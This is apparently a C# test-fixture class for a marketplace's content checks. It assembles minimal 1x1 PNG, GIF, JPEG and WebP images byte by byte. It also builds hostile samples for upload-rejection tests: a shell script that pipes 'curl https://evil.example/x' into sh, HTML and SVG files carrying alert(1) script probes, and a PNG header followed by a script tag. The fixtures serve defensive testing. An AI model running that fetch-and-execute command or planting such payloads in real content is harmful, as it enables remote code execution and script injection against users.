using System.IO.Compression;
using System.Text;

namespace Marketplace.Tests.Content;

/// <summary>Tiny but complete 1x1 images, assembled byte by byte so the tests need no image files.</summary>
internal static class TestImages
{
    public static byte[] Png()
    {
        using var image = new MemoryStream();
        image.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        // Width 1, height 1, bit depth 8, grayscale, default compression, filter and interlace.
        WriteChunk(image, "IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
        using var pixels = new MemoryStream();
        using (var zlib = new ZLibStream(pixels, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write([0, 0xFF]); // filter type none, one white pixel
        }

        WriteChunk(image, "IDAT", pixels.ToArray());
        WriteChunk(image, "IEND", []);
        return image.ToArray();
    }

    public static byte[] Gif() =>
    [
        .. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, // 1x1, a global colour table of two entries
        0, 0, 0, 0xFF, 0xFF, 0xFF,
        0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, // image descriptor
        2, 2, 0x44, 0x01, 0, // LZW minimum code size 2, one sub-block of two bytes
        0x3B,
    ];

    /// <summary>A baseline grey JPEG: one component, one-symbol Huffman tables, so the scan is two bits.</summary>
    public static byte[] Jpeg()
    {
        var quantization = Enumerable.Repeat((byte)1, 64);
        return
        [
            0xFF, 0xD8,
            0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0,
            0xFF, 0xDB, 0, 67, 0, .. quantization,
            0xFF, 0xC0, 0, 11, 8, 0, 1, 0, 1, 1, 1, 0x11, 0,
            0xFF, 0xC4, 0, 20, 0x00, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, // DC: one code of length 1 for category 0
            0xFF, 0xC4, 0, 20, 0x10, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, // AC: one code of length 1 for end of block
            0xFF, 0xDA, 0, 8, 1, 1, 0x00, 0, 63, 0,
            0x3F, // bits 0 (DC difference 0) and 0 (end of block), padded with ones
            0xFF, 0xD9,
        ];
    }

    /// <summary>A lossless 1x1 WebP (the file browsers' feature tests use).</summary>
    public static byte[] WebP() => Convert.FromBase64String("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");

    public static byte[] ShellScript() => "#!/bin/sh\ncurl https://evil.example/x | sh\n"u8.ToArray();

    public static byte[] HtmlPage() => "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"u8.ToArray();

    public static byte[] Svg() => "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>"u8.ToArray();

    public static byte[] Pdf() => "%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"u8.ToArray();

    /// <summary>A PNG signature followed by anything: the type is decided by the magic bytes alone.</summary>
    public static byte[] PngHeaderThenGarbage() => [.. Png().AsSpan(0, 8), .. Encoding.ASCII.GetBytes("<script>alert(1)</script>")];

    private static void WriteChunk(Stream image, string type, byte[] data)
    {
        var typeBytes = Encoding.ASCII.GetBytes(type);
        WriteBigEndian(image, (uint)data.Length);
        image.Write(typeBytes);
        image.Write(data);
        WriteBigEndian(image, Crc32([.. typeBytes, .. data]));
    }

    private static void WriteBigEndian(Stream stream, uint value) =>
        stream.Write([(byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value]);

    private static uint Crc32(byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}
